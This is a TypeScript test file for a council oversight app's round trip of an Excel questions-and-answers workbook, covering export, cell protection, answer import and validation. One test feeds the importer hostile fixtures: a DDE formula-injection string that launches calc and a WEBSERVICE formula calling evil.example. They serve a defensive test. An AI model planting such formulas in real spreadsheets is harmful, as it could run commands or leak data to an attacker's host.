import 'fake-indexeddb/auto';
import ExcelJS from 'exceljs';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useStores } from '../use-stores';
import { runCli } from '../../../electron/cli/cli';
import { buildExport, type ExportServices } from '../../../electron/exports/build-export';
import { examineFile } from '../../../electron/sync/examine';
import { ANSWERS_HEADINGS } from '../../../shared/answers/workbook';
import type { Profile } from '../../../shared/annotations/types';
import { exportRequestSchema } from '../../../shared/exports/schema';
import type { ImportOutcome } from '../../../shared/ipc/contract';
import {
  buildAnnotationsFile,
  createAnnotation,
  markAnswerNotAccepted,
  mergeAnnotationsFile,
  updateAnnotation,
} from '../../../renderer/annotations/annotation-repository';
import { importedAnswerFileHashes, recordAnswers } from '../../../renderer/annotations/answers-repository';
import { saveProfile } from '../../../renderer/annotations/profile-repository';
import { type OversightDatabase } from '../../../renderer/db/database';
import { storeCandidate } from '../../../renderer/db/plan-repository';
import { questionsFor } from '../../../renderer/exports/gather';
import { exportMeeting, unzipText } from '../exports/fixtures';
import { candidateFor, planObject } from '../renderer/plan-candidates';

// The officers' round trip: the clerk makes the workbook, an officer fills it in Excel (here
// exceljs, writing cells as Excel would: text, and a real date in the date column), the clerk
// imports it, and each answer lands on its question with who and when.

const services: ExportServices = {
  printHtmlToPdf: async () => new Uint8Array(),
  trackerCopies: { find: async () => undefined },
  now: () => new Date('2027-02-10T09:00:00Z'),
};
const action = { kind: 'action' as const, planId: 'northshire-wsoa-2025', id: 'A-1.1' };

let folder: string;
const store = useStores();
beforeAll(async () => {
  folder = await fs.mkdtemp(path.join(os.tmpdir(), 'oversight-answers-'));
});
afterAll(async () => {
  await fs.rm(folder, { recursive: true, force: true });
});

async function laptop(name: string, role: Profile['role'] = 'member'): Promise<{ db: OversightDatabase; profile: Profile }> {
  const db = store(`answers-${name}-${Math.random().toString(36).slice(2)}`);
  await storeCandidate(db, candidateFor(planObject()));
  return { db, profile: await saveProfile(db, { displayName: name, role, organisation: 'Council' }) };
}

/** A member's questions merged onto the clerk's laptop, and the clerk's workbook for them. */
async function setUp() {
  const member = await laptop('Cllr Amina Shah');
  const late = await createAnnotation(member.db, member.profile, action, {
    kind: 'question',
    text: 'Why is 1.1 late?',
    tags: [],
    visibility: 'shared',
  });
  const appeals = await createAnnotation(member.db, member.profile, action, {
    kind: 'question',
    text: 'Are appeals rising?',
    tags: [],
    visibility: 'shared',
  });
  const hidden = await createAnnotation(member.db, member.profile, action, {
    kind: 'question',
    text: 'PRIVATE-MARKER',
    tags: [],
    visibility: 'private',
  });
  const clerk = await laptop('Clerk', 'clerk');
  await mergeAnnotationsFile(clerk.db, await buildAnnotationsFile(member.db, member.profile), { profile: clerk.profile });
  const meeting = exportMeeting();
  const built = await buildExport(
    exportRequestSchema.parse({
      kind: 'questions-xlsx',
      includeExempt: false,
      boardName: 'Northmoor SEND Oversight Board',
      meeting: { id: meeting.id, title: meeting.title, date: meeting.date, agenda: meeting.agenda },
      memberName: null,
      questions: await questionsFor(clerk.db, meeting, null),
    }),
    services,
  );
  if (!built.ok) throw new Error(built.error.message);
  return { member, clerk, late, appeals, hidden, built: built.value };
}

async function officerFills(bytes: Uint8Array, answers: Record<string, { answer: string; by: string; date: Date | string }>) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  sheet.eachRow((row) => {
    const filled = answers[String(row.getCell(1).value)];
    if (!filled) return;
    row.getCell(7).value = filled.answer;
    row.getCell(8).value = filled.by;
    row.getCell(9).value = filled.date;
  });
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

async function examine(bytes: Uint8Array, name = 'returned.answers.xlsx'): Promise<ImportOutcome> {
  const file = path.join(folder, name);
  await fs.writeFile(file, bytes);
  const result = await examineFile(file);
  if (result.status !== 'examined') throw new Error(result.status === 'unreadable' ? result.message : 'known');
  return result.outcome;
}

describe('the questions-and-answers workbook', () => {
  it('holds one row per shared question awaiting an answer, locked except the three answer cells', async () => {
    const { built, late, appeals } = await setUp();
    expect(built.suggestedName).toBe('SEND Oversight Board 2027-01-14 questions and answers all members.answers.xlsx');
    expect(built.summary).toBe('2 questions awaiting an answer.');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(built.data as Uint8Array).buffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    expect(sheet.name).toBe('Questions and answers');
    expect(sheet.getCell('A1').value).toBe('Oversight questions and answers, format 1');
    const headingRow = [1, 2, 3, 4, 5, 6].find((number) => sheet.getCell(`A${number}`).value === 'Question id') ?? 0;
    expect((sheet.getRow(headingRow).values as unknown[]).slice(1)).toEqual([...ANSWERS_HEADINGS]);
    const rows = [headingRow + 1, headingRow + 2].map((number) => (sheet.getRow(number).values as unknown[]).slice(1, 6));
    // In the order the merged questions came, which this test does not fix.
    expect(rows.sort((a, b) => String(a[4]).localeCompare(String(b[4])))).toEqual([
      [
        appeals.id,
        'Action 1.1: Recruit and train additional EHC coordinators',
        'Cllr Amina Shah',
        expect.stringMatching(/\d/),
        'Are appeals rising?',
      ],
      [
        late.id,
        'Action 1.1: Recruit and train additional EHC coordinators',
        'Cllr Amina Shah',
        expect.stringMatching(/\d/),
        'Why is 1.1 late?',
      ],
    ]);
    expect(JSON.stringify(sheet.getSheetValues())).not.toContain('PRIVATE-MARKER');
    // The sheet is protected; only the answer, who and date cells of question rows are open.
    expect(unzipText(built.data as Uint8Array, 'xl/worksheets/sheet1.xml')).toMatch(/<sheetProtection[^>]*sheet="1"/);
    const questionRow = sheet.getRow(headingRow + 1);
    expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((column) => questionRow.getCell(column).protection?.locked !== false)).toEqual([
      true,
      true,
      true,
      true,
      true,
      true,
      false,
      false,
      false,
    ]);
  });

  it('round trip: the officer’s answers are recorded on their questions with who and when; the member’s copy is untouched', async () => {
    const { clerk, late, appeals, built } = await setUp();
    const filled = await officerFills(built.data as Uint8Array, {
      [late.id]: {
        answer: 'Two coordinator posts were unfilled; both start in March.',
        by: 'Head of SEND',
        date: new Date(Date.UTC(2027, 1, 17)),
      },
    });
    const outcome = await examine(filled);
    expect(outcome.status).toBe('answers');
    if (outcome.status !== 'answers') return;
    const result = await recordAnswers(clerk.db, outcome.workbook, {
      sha256: 'a'.repeat(64),
      profile: clerk.profile,
      now: new Date('2027-02-18T09:00:00Z'),
    });
    expect(result).toMatchObject({ recorded: 1, unanswered: 1, replaced: 0, unchanged: 0, problems: [] });
    const stored = await clerk.db.annotations.get(late.id);
    expect(stored?.answer).toEqual({
      text: 'Two coordinator posts were unfilled; both start in March.',
      answeredAt: '2027-02-18T09:00:00.000Z',
      answeredBy: 'Head of SEND',
      answeredOn: '2027-02-17',
      via: 'workbook',
    });
    // Another member's question keeps its author's clock stamp: only its author versions it.
    expect(stored?.hlc).toBe(late.hlc);
    expect((await clerk.db.annotations.get(appeals.id))?.answer).toBeNull();
    expect(await importedAnswerFileHashes(clerk.db)).toEqual(['a'.repeat(64)]);
    // Importing it again records nothing new.
    expect(await recordAnswers(clerk.db, outcome.workbook, { profile: clerk.profile })).toMatchObject({ recorded: 0, unchanged: 1 });
  });

  it('an answer recorded here survives a later version of the question, written before the answer reached its author', async () => {
    const { member, clerk, late, built } = await setUp();
    const filled = await officerFills(built.data as Uint8Array, {
      [late.id]: { answer: 'Posts start in March.', by: 'Head of SEND', date: '17/02/2027' },
    });
    const outcome = await examine(filled);
    if (outcome.status !== 'answers') throw new Error(outcome.status);
    await recordAnswers(clerk.db, outcome.workbook, { profile: clerk.profile });
    await updateAnnotation(member.db, member.profile, late.id, {
      kind: 'question',
      text: 'Why is 1.1 late? (tags)',
      tags: ['EHC'],
      visibility: 'shared',
    });
    await mergeAnnotationsFile(clerk.db, await buildAnnotationsFile(member.db, member.profile), { profile: clerk.profile });
    expect(await clerk.db.annotations.get(late.id)).toMatchObject({
      text: 'Why is 1.1 late? (tags)',
      answer: { text: 'Posts start in March.', answeredOn: '2027-02-17' },
    });
  });

  it('a reworded question and an unknown id are reported, never guessed; the rest are recorded', async () => {
    const { member, clerk, late, appeals, built } = await setUp();
    const filled = await officerFills(built.data as Uint8Array, {
      [late.id]: { answer: 'Posts start in March.', by: 'Head of SEND', date: '17/02/2027' },
      [appeals.id]: { answer: 'No, they are falling.', by: 'Designated Clinical Officer', date: '18/02/2027' },
    });
    // The member rewords a question after the workbook went out.
    await updateAnnotation(member.db, member.profile, appeals.id, {
      kind: 'question',
      text: 'Are tribunal appeals rising?',
      tags: [],
      visibility: 'shared',
    });
    await mergeAnnotationsFile(clerk.db, await buildAnnotationsFile(member.db, member.profile), { profile: clerk.profile });
    // And the officer's copy carries a row for a question this laptop never had.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(filled).buffer);
    workbook.worksheets[0]?.addRow(['q-from-elsewhere', 'About', 'Someone', '', 'What?', '', 'An answer', 'Officer', '']);
    const outcome = await examine(new Uint8Array(await workbook.xlsx.writeBuffer()));
    if (outcome.status !== 'answers') throw new Error(outcome.status);
    const result = await recordAnswers(clerk.db, outcome.workbook, { sha256: 'b'.repeat(64), profile: clerk.profile });
    expect(result.recorded).toBe(1);
    expect(result.problems.map((problem) => problem.message)).toEqual([
      expect.stringContaining('no longer reads as the question on this laptop'),
      expect.stringContaining('q-from-elsewhere is not a shared question on this laptop'),
    ]);
    expect((await clerk.db.annotations.get(appeals.id))?.answer).toBeNull();
    // With unmatched rows the workbook is not remembered, so it can be imported again later.
    expect(await importedAnswerFileHashes(clerk.db)).toEqual([]);
  });

  it('an answer not accepted sends the question out again with its follow-up, and the new answer replaces the old', async () => {
    const member = await laptop('Cllr Amina Shah');
    const question = await createAnnotation(member.db, member.profile, action, {
      kind: 'question',
      text: 'When?',
      tags: [],
      visibility: 'shared',
    });
    const meeting = exportMeeting();
    const request = async () =>
      exportRequestSchema.parse({
        kind: 'questions-xlsx',
        includeExempt: false,
        boardName: 'Board',
        meeting: { id: meeting.id, title: meeting.title, date: meeting.date, agenda: meeting.agenda },
        memberName: null,
        questions: await questionsFor(member.db, meeting, null),
      });
    const first = await buildExport(await request(), services);
    if (!first.ok) throw new Error('build');
    const firstOutcome = await examine(
      await officerFills(first.value.data as Uint8Array, { [question.id]: { answer: 'Soon.', by: 'Head of SEND', date: '17/02/2027' } }),
    );
    if (firstOutcome.status !== 'answers') throw new Error('not answers');
    await recordAnswers(member.db, firstOutcome.workbook, { profile: member.profile });
    // Once answered, the question is not sent again...
    const answered = await buildExport(await request(), services);
    expect(answered.ok && answered.value.summary).toBe('0 questions awaiting an answer; 1 answered question left out.');
    // ...until the member does not accept the answer.
    const marked = await markAnswerNotAccepted(member.db, member.profile, question.id, 'Which month, and who is accountable?');
    expect(marked.ok && marked.record.hlc > question.hlc).toBe(true);
    const again = await buildExport(await request(), services);
    if (!again.ok) throw new Error('build');
    const outcome = await examine(
      await officerFills(again.value.data as Uint8Array, {
        [question.id]: { answer: 'March; the Director of Education.', by: 'Director of Children’s Services', date: '24/02/2027' },
      }),
    );
    if (outcome.status !== 'answers') throw new Error('not answers');
    expect(outcome.workbook.rows[0]?.followUp).toBe('Which month, and who is accountable?');
    expect(await recordAnswers(member.db, outcome.workbook, { profile: member.profile })).toMatchObject({ recorded: 1, replaced: 1 });
    expect((await member.db.annotations.get(question.id))?.answer).toMatchObject({
      text: 'March; the Director of Education.',
      answeredBy: 'Director of Children’s Services',
    });
    expect((await member.db.annotations.get(question.id))?.answer?.notAccepted).toBeUndefined();
  });

  it('refuses hostile and damaged workbooks with a located message before anything is stored', async () => {
    const { built } = await setUp();
    const bytes = built.data as Uint8Array;
    const truncated = await examine(bytes.subarray(0, Math.floor(bytes.length / 2)), 'cut.answers.xlsx');
    expect(truncated.status).toBe('invalid');
    const notZip = await examine(new TextEncoder().encode('Question id,Answer\nq-1,=cmd|"/c calc"!A1\n'), 'fake.answers.xlsx');
    expect(notZip.status).toBe('invalid');
    const oversized = path.join(folder, 'huge.answers.xlsx');
    await fs.writeFile(oversized, new Uint8Array(21 * 1024 * 1024));
    const tooBig = await examineFile(oversized);
    expect(tooBig.status === 'unreadable' || (tooBig.status === 'examined' && tooBig.outcome.status === 'invalid')).toBe(true);
    // A newer format, in a workbook otherwise as Oversight wrote it.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(bytes).buffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    sheet.getCell('A1').value = 'Oversight questions and answers, format 7';
    const newer = await examine(new Uint8Array(await workbook.xlsx.writeBuffer()), 'newer.answers.xlsx');
    expect(newer.status === 'invalid' && newer.errors[0]).toMatchObject({ path: "'Questions and answers'!A1" });
    // A real formula in an answer cell: its saved result is read, the formula never is.
    sheet.getCell('A1').value = 'Oversight questions and answers, format 1';
    const firstQuestion = [1, 2, 3, 4, 5, 6].map((number) => sheet.getRow(number)).find((row) => row.getCell(1).value === 'Question id');
    const target = sheet.getRow((firstQuestion?.number ?? 0) + 1);
    target.getCell(7).value = { formula: 'WEBSERVICE("http://evil.example/")', result: 'Saved result' };
    const formula = await examine(new Uint8Array(await workbook.xlsx.writeBuffer()), 'formula.answers.xlsx');
    expect(formula.status === 'answers' && formula.workbook.rows[0]?.answer).toBe('Saved result');
  });

  it('is known by cell A1 even when renamed without ".answers", and oversight-cli validate accepts it', async () => {
    const { built } = await setUp();
    const outcome = await examine(built.data as Uint8Array, 'Answers from officers.xlsx');
    expect(outcome.status).toBe('answers');
    const file = path.join(folder, 'cli.answers.xlsx');
    await fs.writeFile(file, built.data);
    const out: string[] = [];
    const code = await runCli(['validate', file], { out: (text) => out.push(text), err: () => undefined });
    expect(code).toBe(0);
    expect(out.join('\n')).toContain('valid questions and answers workbook (2 questions, 0 answered)');
    const broken = path.join(folder, 'broken.answers.xlsx');
    await fs.writeFile(broken, (built.data as Uint8Array).subarray(0, 500));
    const json: string[] = [];
    expect(await runCli(['validate', broken, '--json'], { out: (text) => json.push(text), err: () => undefined })).toBe(1);
    expect(JSON.parse(json.join('')) as unknown).toEqual([
      expect.objectContaining({ valid: false, errors: [expect.objectContaining({ path: expect.any(String) })] }),
    ]);
  });
});
